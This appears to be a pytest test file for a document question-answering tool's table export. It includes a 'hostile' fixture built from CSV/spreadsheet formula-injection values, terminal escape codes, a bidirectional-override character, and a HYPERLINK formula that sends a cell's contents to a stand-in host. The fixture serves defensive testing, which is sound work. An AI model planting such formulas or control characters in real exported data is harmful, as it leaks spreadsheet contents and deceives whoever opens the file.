"""Tables: one of the five documents, and one of a document that means harm."""

from __future__ import annotations

import pytest

from casc_qa.asking.assistant import Assistant
from casc_qa.surveying.table import Cell, Column, Row, Table, make_table
from casc_qa.types import EVERYTHING, Abstention, Citation, Span

QUESTIONS = (
    "How many participants took part?",
    "Кто выступил со вступительным словом?",
    "Summarise the documents.",
)
FORMULA = '=HYPERLINK("http://x/?"&A1,"click")'


@pytest.fixture(scope="session")
def table(assistant: Assistant) -> Table:
    return make_table(assistant, QUESTIONS)


@pytest.fixture
def hostile() -> Table:
    """A document whose title, words and sentence would do something, if they were let."""
    quote = f"{FORMULA} said\n+7 \x1b[31mred\u202e\x0b"
    citation = Citation(
        number=1, doc_id="=a.txt", sha256="0" * 64, title="@title", date=None, url="-1+1",
        page=3, page_end=3, start=10, end=10 + len(quote), quote=quote,
    )  # fmt: skip
    filled = Cell(0.75, citation, Span(0, len(FORMULA)))
    row = Row("=a.txt", "0" * 64, "@title", None, "2023-08-22", "-1+1", None, (filled, Cell(0.1)))
    columns = (
        Column("+Who?", "en"),
        Column("Why?", "en", Abstention("beyond_quotes", "No quote can.")),
    )
    return Table(columns, (row,), EVERYTHING, "generation", "model")
